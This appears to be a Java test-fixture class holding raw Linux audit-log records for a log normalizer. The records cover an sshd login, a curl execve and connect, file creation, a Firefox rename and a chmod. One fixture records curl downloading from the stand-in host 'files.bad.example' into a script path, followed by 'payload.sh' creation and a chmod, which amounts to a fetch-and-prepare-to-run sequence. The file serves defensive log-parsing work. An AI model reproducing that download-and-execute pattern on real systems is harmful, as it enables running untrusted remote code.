package io.clicktrail.normalizer.linux;

/** Events of the audit system as its daemon writes them, record by record. */
public final class AuditFixtures {

    /** A shell starts curl; 0x1D precedes what the daemon has added. */
    public static final String EXECVE = """
            node=lin-7.corp.example type=SYSCALL msg=audit(1772445605.701:4711): arch=c000003e syscall=59 success=yes \
            exit=0 a0=55d0 a1=55d1 a2=55d2 a3=8 items=2 ppid=2176 pid=2221 auid=1000 uid=1000 gid=1000 euid=1000 \
            suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=8 comm="curl" exe="/usr/bin/curl" \
            subj=unconfined key="exec"\u001dARCH=x86_64 SYSCALL=execve AUID="ada" UID="ada" GID="ada" EUID="ada"
            node=lin-7.corp.example type=EXECVE msg=audit(1772445605.701:4711): argc=4 a0="curl" a1="-o" \
            a2=2F746D702F6D79207265706F72742E7368 a3="https://files.bad.example/a"
            node=lin-7.corp.example type=CWD msg=audit(1772445605.701:4711): cwd="/home/ada"
            node=lin-7.corp.example type=PATH msg=audit(1772445605.701:4711): item=0 name="/usr/bin/curl" inode=1593 \
            dev=08:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0
            node=lin-7.corp.example type=PATH msg=audit(1772445605.701:4711): item=1 \
            name="/lib64/ld-linux-x86-64.so.2" inode=4382 dev=08:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 \
            nametype=NORMAL cap_fp=0
            node=lin-7.corp.example type=PROCTITLE msg=audit(1772445605.701:4711): proctitle=6375726C002D6F
            """;

    public static final String CONNECT = """
            node=lin-7.corp.example type=SYSCALL msg=audit(1772445605.802:4712): arch=c000003e syscall=42 success=no \
            exit=-115 a0=6 a1=7ffe a2=10 a3=fe items=0 ppid=2176 pid=2221 auid=1000 uid=1000 gid=1000 euid=1000 ses=8 \
            comm="curl" exe="/usr/bin/curl" key=(null)
            node=lin-7.corp.example type=SOCKADDR msg=audit(1772445605.802:4712): saddr=020001BBCB0071090000000000000000
            node=lin-7.corp.example type=PROCTITLE msg=audit(1772445605.802:4712): proctitle=6375726C002D6F
            """;

    public static final String OPEN = """
            node=lin-7.corp.example type=SYSCALL msg=audit(1772445605.903:4713): arch=c000003e syscall=257 \
            success=yes exit=3 a0=ffffff9c a1=7ffe a2=241 a3=1b6 items=2 ppid=2176 pid=2221 auid=1000 uid=1000 ses=8 \
            comm="curl" exe="/usr/bin/curl" key="write"
            node=lin-7.corp.example type=CWD msg=audit(1772445605.903:4713): cwd="/home/ada"
            node=lin-7.corp.example type=PATH msg=audit(1772445605.903:4713): item=0 name="Downloads/" inode=77 \
            dev=08:01 mode=040755 ouid=1000 ogid=1000 rdev=00:00 nametype=PARENT
            node=lin-7.corp.example type=PATH msg=audit(1772445605.903:4713): item=1 name="Downloads/payload.sh" \
            inode=78 dev=08:01 mode=0100644 ouid=1000 ogid=1000 rdev=00:00 nametype=CREATE
            node=lin-7.corp.example type=PROCTITLE msg=audit(1772445605.903:4713): proctitle=6375726C002D6F
            """;

    public static final String RENAME = """
            node=lin-7.corp.example type=SYSCALL msg=audit(1772445606.004:4714): arch=c000003e syscall=82 success=yes \
            exit=0 a0=7f a1=7e a2=0 a3=0 items=4 ppid=1 pid=3001 auid=1000 uid=1000 ses=8 comm="firefox" \
            exe="/usr/lib/firefox/firefox" key="write"
            node=lin-7.corp.example type=CWD msg=audit(1772445606.004:4714): cwd="/home/ada"
            node=lin-7.corp.example type=PATH msg=audit(1772445606.004:4714): item=0 name="/home/ada/Downloads/" \
            inode=77 nametype=PARENT
            node=lin-7.corp.example type=PATH msg=audit(1772445606.004:4714): item=1 name="/home/ada/Downloads/" \
            inode=77 nametype=PARENT
            node=lin-7.corp.example type=PATH msg=audit(1772445606.004:4714): item=2 \
            name="/home/ada/Downloads/a.AppImage.part" inode=79 nametype=DELETE
            node=lin-7.corp.example type=PATH msg=audit(1772445606.004:4714): item=3 \
            name="/home/ada/Downloads/a.AppImage" inode=79 nametype=CREATE
            node=lin-7.corp.example type=PROCTITLE msg=audit(1772445606.004:4714): proctitle="firefox"
            """;

    public static final String CHMOD = """
            node=lin-7.corp.example type=SYSCALL msg=audit(1772445606.105:4715): arch=c00000b7 syscall=53 success=yes \
            exit=0 a0=ffffffffffffff9c a1=aaaa a2=1ed a3=0 items=1 ppid=2176 pid=2222 auid=4294967295 uid=0 \
            ses=4294967295 comm="chmod" exe="/usr/bin/chmod" key="mode"
            node=lin-7.corp.example type=CWD msg=audit(1772445606.105:4715): cwd="/tmp"
            node=lin-7.corp.example type=PATH msg=audit(1772445606.105:4715): item=0 name="./a.sh" inode=80 \
            nametype=NORMAL
            node=lin-7.corp.example type=PROCTITLE msg=audit(1772445606.105:4715): proctitle=63686D6F64
            """;

    public static final String LOGIN =
            "node=lin-7.corp.example type=USER_LOGIN msg=audit(1772445600.100:4700): pid=1187 uid=0 "
                    + "auid=1000 ses=8 subj=unconfined msg='op=login id=1000 exe=\"/usr/sbin/sshd\" "
                    + "hostname=10.1.2.17 addr=10.1.2.17 terminal=/dev/pts/0 res=success'\u001dUID=\"root\" "
                    + "AUID=\"ada\" ID=\"ada\"";

    private AuditFixtures() {}
}
